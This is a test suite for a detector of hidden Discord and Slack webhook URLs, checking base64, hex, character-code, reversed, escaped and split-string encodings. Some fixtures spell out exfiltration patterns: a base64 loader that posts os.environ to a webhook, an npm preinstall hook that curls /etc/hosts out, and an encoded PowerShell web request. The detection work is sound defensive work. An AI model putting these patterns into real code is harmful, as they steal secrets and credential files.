// The Detector on encoded and split URLs, with fabricated secrets made at run time (the repository
// scans itself, so no test file may hold a URL, encoded or not): each decoder at every alignment
// and form it accepts, the exact original byte offsets of the encoded text (and of each piece of a
// split URL), the decoded URL, and the negatives (unrelated data, placeholders, templates).
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { Detector, type RawMatch } from '../../src/detect/detector.js';
import { loadProviders } from '../../src/patterns/index.js';
import { rand } from '../support/fabricate.js';

const detector = new Detector(loadProviders().flatMap((p) => p.patterns));
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-';
const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const SCHEME = ['https', '://'].join('');

/** Random secrets that no placeholder rule rejects (no runs, no words). */
function clean(alphabet: string, n: number): string {
  for (;;) {
    const s = rand(alphabet, n);
    if (!/(.)\1{3}|xxxx|your|example|replace|placeholder|redacted|dummy|changeme|sample|insert/i.test(s)) return s;
  }
}
function discord() {
  const secret = `1${rand('0123456789', 18)}/${clean(B64URL, 68)}`;
  return { secret, url: `${SCHEME}discord.com/api/webhooks/${secret}` };
}
function slack() {
  const secret = `T${clean(UPPER, 10)}/B${clean(UPPER, 10)}/${clean(ALNUM, 24)}`;
  return { secret, url: `${SCHEME}hooks.slack.com/services/${secret}` };
}

function detect(text: string): RawMatch[] {
  return detector.detect(Buffer.from(text, 'utf8'));
}
/** Byte offsets of the first occurrence of `needle` in `text`. */
function span(text: string, needle: string, from = 0): { start: number; end: number } {
  const i = text.indexOf(needle, from);
  expect(i, `${needle.slice(0, 30)}… in the text`).toBeGreaterThanOrEqual(0);
  const start = Buffer.byteLength(text.slice(0, i));
  return { start, end: start + Buffer.byteLength(needle) };
}
const b64 = (s: string) => Buffer.from(s).toString('base64');
const unpadded = (s: string) => s.replace(/=+$/, '');

describe('base64', () => {
  it.each([0, 1, 2])('decodes a URL at byte alignment %i inside encoded text, with exact offsets', (pad) => {
    const h = discord();
    const plain = `${'x'.repeat(pad)}${h.url}`;
    const enc = b64(plain);
    const text = `payload = "${enc}"\n`;
    const [m, ...rest] = detect(text);
    expect(rest).toEqual([]);
    // the URL starts in the character that holds the first bits of its first byte
    const first = Math.floor(pad / 3) * 4 + (pad % 3);
    const last = pad + h.url.length - 1;
    const end = Math.floor(last / 3) * 4 + (last % 3) + 2;
    const at = span(text, enc).start;
    expect(m).toMatchObject({ ruleId: 'discord-webhook', secret: h.secret, url: h.url, encoding: 'base64', start: at + first, end: at + end });
  });

  it.each([
    ['atob()', (e: string) => `const u = atob("${e}");`],
    ['Buffer.from(…, "base64")', (e: string) => `const u = Buffer.from('${e}', 'base64').toString();`],
    ['b64decode()', (e: string) => `u = base64.b64decode(b"${e}").decode()`],
    ['FromBase64String()', (e: string) => `$u = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("${e}"))`],
    ['base64 -d', (e: string) => `U=$(echo ${e} | base64 -d)`],
  ])('in %s, with or without padding', (_name, wrap) => {
    for (const encode of [b64, (s: string) => unpadded(b64(s))]) {
      const h = slack();
      const enc = encode(h.url);
      const text = wrap(enc);
      expect(detect(text)).toEqual([expect.objectContaining({ secret: h.secret, url: h.url, encoding: 'base64', ...span(text, unpadded(enc)) })]);
    }
  });

  it('decodes base64url (- and _)', () => {
    const h = discord();
    for (let i = 0; i < 20; i++) {
      const plain = `{"u":"${h.url}","n":${i}}`;
      const enc = Buffer.from(plain).toString('base64url');
      if (!/[-_]/.test(enc)) continue;
      expect(detect(`x='${enc}'`).map((m) => [m.secret, m.encoding])).toEqual([[h.secret, 'base64']]);
      return;
    }
  });

  it('follows base64 wrapped over lines, \\n escapes, escaped slashes and string joins', () => {
    const h = discord();
    const enc = b64(`{"hook":"${h.url}"}`);
    const chunks = enc.match(/.{1,16}/g)!;
    const forms = [
      chunks.join('\n'),
      chunks.join('\r\n    '),
      chunks.join('\\n'),
      `${chunks.slice(0, 3).join('')}" +\n  "${chunks.slice(3).join('')}`,
      enc.replace(/\//g, '\\/'),
    ];
    for (const f of forms) {
      const found = detect(`data = "${f}"\n`);
      expect(found.map((m) => [m.secret, m.encoding, m.url]), JSON.stringify(f.slice(0, 40))).toEqual([[h.secret, 'base64', h.url]]);
    }
  });

  it('decodes UTF-16LE base64 (PowerShell -EncodedCommand)', () => {
    const h = slack();
    const text = `powershell -enc ${Buffer.from(`iwr -Method Post ${h.url}`, 'utf16le').toString('base64')}`;
    expect(detect(text).map((m) => [m.secret, m.url, m.encoding])).toEqual([[h.secret, h.url, 'base64']]);
  });

  it('decodes base64 inside base64 (a loader), and a scheme-less URL', () => {
    const h = discord();
    const inner = `u = b64decode("${b64(h.url)}")`;
    expect(detect(`exec(b64decode("${b64(inner)}"))`).map((m) => [m.secret, m.encoding])).toEqual([[h.secret, 'base64']]);
    const bare = h.url.slice(SCHEME.length);
    expect(detect(`x = atob("${b64(`curl -X POST ${bare}`)}")`).map((m) => m.secret)).toEqual([h.secret]);
  });

  it('reports nothing for base64 of unrelated data or of a placeholder', () => {
    expect(detect(`img = "${randomBytes(3000).toString('base64')}"`)).toEqual([]);
    expect(detect(`u = atob("${b64(`${SCHEME}example.com/api/webhooks/1234/abcd`)}")`)).toEqual([]);
    const placeholder = `${SCHEME}hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX`;
    expect(detect(`u = atob("${b64(placeholder)}")`)).toEqual([]);
  });
});

describe('hex, character codes, reversed strings, escapes', () => {
  it('decodes hex (either case) with exact offsets', () => {
    const h = discord();
    for (const hex of [Buffer.from(h.url).toString('hex'), Buffer.from(h.url).toString('hex').toUpperCase()]) {
      const text = `u = bytes.fromhex("${hex}").decode()`;
      expect(detect(text)).toEqual([expect.objectContaining({ secret: h.secret, url: h.url, encoding: 'hex', ...span(text, hex) })]);
    }
  });

  it.each([
    ['String.fromCharCode, decimal', (u: string) => [...Buffer.from(u)].join(', ')],
    ['a byte array, hex', (u: string) => [...Buffer.from(u)].map((b) => `0x${b.toString(16)}`).join(',')],
    ['chr() sums', (u: string) => [...Buffer.from(u)].join(')+chr(')],
  ])('decodes character codes: %s', (_name, list) => {
    const h = slack();
    const codes = list(h.url);
    const text = `u = String.fromCharCode(${codes});`;
    expect(detect(text)).toEqual([expect.objectContaining({ secret: h.secret, url: h.url, encoding: 'char-codes', ...span(text, codes) })]);
  });

  it('reads a reversed string back', () => {
    const h = discord();
    const rev = [...h.url].reverse().join('');
    const text = `u = "${rev}".split("").reverse().join("")`;
    const [m] = detect(text);
    expect(m).toMatchObject({ secret: h.secret, url: h.url, encoding: 'reversed', ...span(text, rev) });
  });

  it('decodes a URL escaped character by character (\\x, \\u00, &#, %), hidden-letters noted', () => {
    const h = slack();
    const forms = [
      [...h.url].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join(''),
      [...h.url].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join(''),
      [...h.url].map((c) => `&#${c.charCodeAt(0)};`).join(''),
      [...h.url].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''),
    ];
    const encodings = ['escaped', 'escaped', 'html', 'percent'];
    forms.forEach((f, i) => {
      const text = `x = "${f}"`;
      const found = detect(text);
      expect(found).toEqual([expect.objectContaining({ secret: h.secret, url: h.url, encoding: encodings[i], ...span(text, f) })]);
      expect(found[0].context?.hidden).toEqual(['escapes of every character']);
    });
  });

  it('does not call JSON-escaped slashes obfuscation', () => {
    const h = slack();
    const [m] = detect(`{"u":"${h.url.replace(/\//g, '\\/')}"}`);
    expect(m.encoding).toBe('escaped');
    expect(m.context?.hidden).toBeUndefined();
  });
});

describe('split strings', () => {
  it('joins literals split inside a word, once, with the offsets of both pieces', () => {
    const h = discord();
    const cut = h.url.indexOf('hooks/');
    const [a, b] = [h.url.slice(0, cut), h.url.slice(cut)];
    const text = `const u = "${a}" + "${b}";`;
    const found = detect(text);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ secret: h.secret, url: h.url, encoding: 'split', start: span(text, a).start, end: span(text, b).end, parts: [span(text, a), span(text, b)] });
    expect(found[0].context?.hidden).toEqual(['pieces split inside a word ("web" + "hooks")']);
  });

  it.each([
    ['Python implicit concatenation', (a: string, b: string) => `U = ("${a}"\n     "${b}")`],
    ['a backslash continuation between literals', (a: string, b: string) => `U = "${a}" \\\n    "${b}"`],
    ['a line continuation inside a literal', (a: string, b: string) => `var u = "${a}\\\n${b}";`],
    ['PHP concatenation', (a: string, b: string) => `$u = "${a}" . "${b}";`],
    ['single quotes and backticks', (a: string, b: string) => `u = '${a}' + \`${b}\``],
  ])('joins %s', (_name, write) => {
    const h = slack();
    const cut = h.url.length - 7;
    const [a, b] = [h.url.slice(0, cut), h.url.slice(cut)];
    const text = write(a, b);
    const found = detect(text);
    expect(found.map((m) => [m.secret, m.encoding])).toEqual([[h.secret, 'split']]);
    expect(found[0].parts).toEqual([span(text, a), span(text, b)]);
  });

  it('a template literal and an f-string with constants of the same file', () => {
    const h = discord();
    const [id, token] = h.secret.split('/');
    const host = `${SCHEME}discord.com`;
    const js = `const ID = "${id}";\nconst TOKEN = "${token}";\nconst u = \`${host}/api/webhooks/\${ID}/\${TOKEN}\`;\n`;
    const py = `HOST = "${host}"\nID = "${id}"\nTOKEN = "${token}"\nu = f"{HOST}/api/webhooks/{ID}/{TOKEN}"\n`;
    for (const text of [js, py]) {
      const [m, ...rest] = detect(text);
      expect(rest).toEqual([]);
      expect(m).toMatchObject({ secret: h.secret, url: h.url, encoding: 'split' });
      expect(m.parts!.map((p) => text.slice(p.start, p.end)).join('')).toBe(h.url);
    }
  });

  it('a prefix constant and a suffix constant joined where they are used', () => {
    const h = slack();
    const base = `${SCHEME}hooks.slack.com/services/`;
    const text = `BASE = "${base}"\nPATH = "${h.secret}"\n\nrequests.post(BASE + PATH, json=msg)\n`;
    const [m, ...rest] = detect(text);
    expect(rest).toEqual([]);
    expect(m).toMatchObject({ secret: h.secret, url: h.url, encoding: 'split', ...span(text, 'BASE + PATH'), parts: [span(text, base), span(text, h.secret)] });
  });

  it('a token cut between two literals is reported whole, not truncated', () => {
    const h = discord();
    const cut = h.url.length - 5; // the plain pass alone would see a valid, shorter token
    const text = `u = "${h.url.slice(0, cut)}" + "${h.url.slice(cut)}"`;
    expect(detect(text).map((m) => [m.secret, m.encoding])).toEqual([[h.secret, 'split']]);
  });

  it('reports nothing for templates of run-time values', () => {
    const texts = [
      `u = \`${SCHEME}discord.com/api/webhooks/\${process.env.ID}/\${process.env.TOKEN}\``,
      `u = "${SCHEME}hooks.slack.com/services/" + team + "/" + bot + "/" + key`,
      `BASE = "${SCHEME}discord.com/api/webhooks/"\nu = BASE + webhook_id + "/" + webhook_token`,
      `u = f"${SCHEME}discord.com/api/webhooks/{hook_id}/{hook_token}"`,
    ];
    for (const t of texts) expect(detect(t), t).toEqual([]);
  });
});

describe('context', () => {
  it('notes what the code around the URL sends, at every decoding level', () => {
    const h = discord();
    const inner = `import os,requests\nrequests.post("${h.url}", json=dict(os.environ))`;
    const [m] = detect(`exec(__import__("base64").b64decode("${b64(inner)}"))\nopen(".npmrc")`);
    expect(m.context?.sends?.sort()).toEqual(['credential files (.npmrc)', 'os.environ']);
    expect(m.context?.hidden).toEqual(['base64 (decoded with b64decode())']);
  });

  it('notes the npm install script that holds the URL', () => {
    const h = slack();
    const [m] = detect(`{"scripts":{"test":"jest","preinstall":"curl -d @- ${h.url} < /etc/hosts"}}`);
    expect(m.context?.installScript).toBe('preinstall');
    const [n] = detect(`{"scripts":{"test":"curl ${h.url}"}}`);
    expect(n.context?.installScript).toBeUndefined();
  });
});
